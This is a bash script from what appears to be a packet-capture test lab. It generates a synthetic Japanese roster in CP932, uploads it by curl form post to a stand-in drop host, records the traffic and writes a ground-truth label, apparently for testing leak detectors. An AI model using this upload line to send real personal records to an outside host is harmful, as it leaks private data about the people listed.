#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a form upload of a CP932 table with a Japanese file name.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv japan 200 encoding=cp932 >"$LAB/名簿.csv"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 \
    -F "file=@$LAB/名簿.csv;type=application/vnd.ms-excel" \
    http://drop.example/upload
lab_stop
table truth japan 200 channel=http party=drop.example \
    >"$here/truth.json"
